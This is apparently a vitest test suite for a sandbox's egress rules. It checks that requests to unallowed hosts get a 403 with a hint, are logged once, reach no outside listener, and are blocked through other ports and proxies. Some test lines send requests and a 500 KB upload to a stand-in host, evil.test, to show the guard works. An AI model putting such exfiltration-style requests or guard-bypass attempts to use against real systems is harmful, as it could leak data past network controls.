import type { Sandbox } from "@sandboxer/sdk";
import { afterAll, beforeAll, beforeEach, expect, it, vi } from "vitest";
import { requires } from "../capabilities/requires.ts";
import { PRIVATE, WORLD } from "./lab/lab.ts";
import { type Bench, curl as curlOfLab, openBench, probe, text } from "./lab/sandbox.ts";

const { describe } = await requires("linux-userns", "boxd", "egress-lab");

vi.setConfig({ testTimeout: 90_000 });

/** As the sandbox is set up: it trusts its own authority. */
const curl = (sandbox: Sandbox, ...args: string[]) =>
  sandbox.run(["curl", "--silent", "--show-error", "--max-time", "60", ...args], { timeoutMs: 80_000 });

const POST = `
import http.client, ssl, sys
to = http.client.HTTPSConnection(sys.argv[1], timeout=60)
to.request("POST", "/up", b"x" * 500_000)
answer = to.getresponse()
print(answer.status, answer.read().decode())`;

describe("a denied https request", () => {
  let bench: Bench;
  let sandbox: Sandbox;
  beforeAll(async () => {
    bench = await openBench({}, { askPatienceMs: 1_000 });
    for (const name of ["api.test", "evil.test", "denied.test", "asked.test"]) {
      await bench.lab.name(name, [WORLD]);
    }
    await bench.lab.name("lan.test", [PRIVATE]);
    sandbox = await bench.sandbox({
      rules: [
        { host: "api.test" },
        { host: "lan.test" },
        { id: "never", host: "denied.test", effect: "deny" },
        { host: "asked.test", effect: "ask" },
      ],
    });
  });
  afterAll(() => bench.close());
  beforeEach(() => bench.lab.clear());

  const heard = async () => (await bench.lab.look()).records.map(({ what }) => what);
  const tried = async (made: Sandbox, host: string) =>
    (await made.networkCalls()).calls.filter((call) => call.host === host);
  const told = async (made: Sandbox, url: string) => {
    const { stdout } = await curl(made, "--write-out", "%{http_code}", url);
    const [, body = "{}", status] = /^(.*)\n(\d+)$/s.exec(text(stdout)) ?? [];
    return { status, ...(JSON.parse(body).error as { message: string; hint: string }) };
  };

  it("reads why, and where to learn more, and nobody outside hears of it", async () => {
    const before = await bench.lab.look();
    const { stdout } = await curl(sandbox, "--include", "https://evil.test/secret?q=1");
    const after = await bench.lab.look();
    const [head = "", body = ""] = text(stdout).split("\r\n\r\n");
    expect(head).toMatch(/^HTTP\/1.1 403 Forbidden\r\nContent-Type: application\/json/);
    expect(JSON.parse(body)).toEqual({
      error: {
        code: "policy_denied",
        message: "no rule allows evil.test:443",
        hint: expect.stringContaining(`\`sandboxer net ${sandbox.id}\``),
      },
    });
    expect({ records: after.records, packets: after.packets - before.packets }).toEqual({
      records: [],
      packets: 0,
    });
    // Control: the same request where a rule allows its host.
    expect(text((await curlOfLab(sandbox, "https://api.test/secret?q=1")).stdout)).toBe(
      "hello from api.test\n",
    );
    expect(await heard()).toContain("GET /secret?q=1");
  });

  it("is written down once, as the connection that was denied, with the rule that would allow it", async () => {
    const made = await bench.sandbox({ rules: [{ host: "api.test" }] });
    expect((await told(made, "https://evil.test/")).status).toBe("403");
    const [call, ...more] = await tried(made, "evil.test");
    expect(more).toEqual([]);
    expect(call).toMatchObject({ port: 443, via: "name", verdict: "denied" });
    expect(call).not.toHaveProperty("path");
    const { proposed } = await made.networkCalls();
    expect(proposed).toMatchObject([{ host: "evil.test" }]);
    await made.changeNetwork({ egress: "guarded", rules: proposed });
    expect(text((await curlOfLab(made, "https://evil.test/")).stdout)).toBe("hello from evil.test\n");
  });

  it.each([
    ["denied.test", "the rule never denies it"],
    ["lan.test", "lan.test leads to an address inside a network that no rule names"],
    ["asked.test", "nobody allowed it"],
  ])("says so of %s too: %s", async (host, message) => {
    expect(await told(sandbox, `https://${host}/`)).toMatchObject({ status: "403", message });
    expect((await bench.lab.look()).records.filter(({ kind }) => kind !== "dns")).toEqual([]);
    await expect.poll(() => tried(sandbox, host)).toMatchObject([{ verdict: "denied" }]);
  });

  it("is answered also where it comes with a body that nobody waits for", async () => {
    const { stdout, stderr } = await sandbox.run(["python3", "-c", POST, "evil.test"], { timeoutMs: 80_000 });
    expect({ said: text(stdout), stderr: text(stderr) }).toMatchObject({
      said: expect.stringMatching(/^403 .*no rule allows evil\.test:443/),
    });
    expect(await heard()).toEqual([]);
  });

  it("is a certificate that is not trusted to whoever has another list, and no more", async () => {
    const { exit, stdout } = await curlOfLab(sandbox, "https://evil.test/");
    expect({ exit, said: text(stdout) }).toEqual({ exit: { kind: "exited", code: 60 }, said: "" });
    expect(await heard()).toEqual([]);
  });

  it("breaks off on other ports, without TLS, for another name, and when nothing is said", async () => {
    const code = async (...args: string[]) => (await curl(sandbox, "--insecure", ...args)).exit;
    const other = ["--connect-to", "twin.test:443:evil.test:443", "https://twin.test/"];
    for (const args of [["https://evil.test:8443/"], ["http://evil.test:443/"], other]) {
      expect({ args, exit: await code(...args) }).not.toEqual({ args, exit: { kind: "exited", code: 0 } });
    }
    const [silent] = await probe(sandbox, { op: "tcp", to: [["evil.test", 443]], wait: 60 });
    expect({
      got: silent?.got ?? "",
      isOver: silent?.closed === true || silent?.error !== undefined,
    }).toEqual({ got: "", isOver: true });
    expect(silent?.error).not.toBe("TimeoutError");
    expect(await heard()).toEqual([]);
  });

  it("is told by a proxy in the proxy's own words", async () => {
    const proxied = await curl(sandbox, "-v", "--proxy", "http://198.18.0.1:3128", "https://evil.test/");
    expect(proxied.exit).toEqual({ kind: "exited", code: 56 });
    expect(text(proxied.stderr)).toContain("403 Forbidden");
    const [said] = await probe(sandbox, {
      op: "say",
      all: [
        {
          host: "198.18.0.1",
          port: 3128,
          pieces: ["CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"],
          whole: true,
        },
      ],
    });
    expect(JSON.stringify(said)).toContain(`no rule allows evil.test:443. Outside, \`sandboxer net`);
    const socks = await curl(sandbox, "--proxy", "socks5h://198.18.0.1:1080", "https://evil.test/");
    expect(socks.exit).toEqual({ kind: "exited", code: 97 });
    expect(await heard()).toEqual([]);
  });

  it("breaks off where the network says so, from the moment that it does", async () => {
    const made = await bench.sandbox({ rules: [], denied: "reset" });
    // While it connects or after: whichever the program notices first.
    const isBroken = async () => {
      const { exit, stdout } = await curl(made, "--insecure", "https://evil.test/");
      return exit.kind === "exited" && [7, 35].includes(exit.code) && stdout.length === 0;
    };
    expect(await isBroken()).toBe(true);
    await made.changeNetwork({ egress: "guarded", rules: [] });
    expect((await told(made, "https://evil.test/")).status).toBe("403");
    await made.changeNetwork({ egress: "guarded", rules: [], denied: "reset" });
    expect(await isBroken()).toBe(true);
  });
});
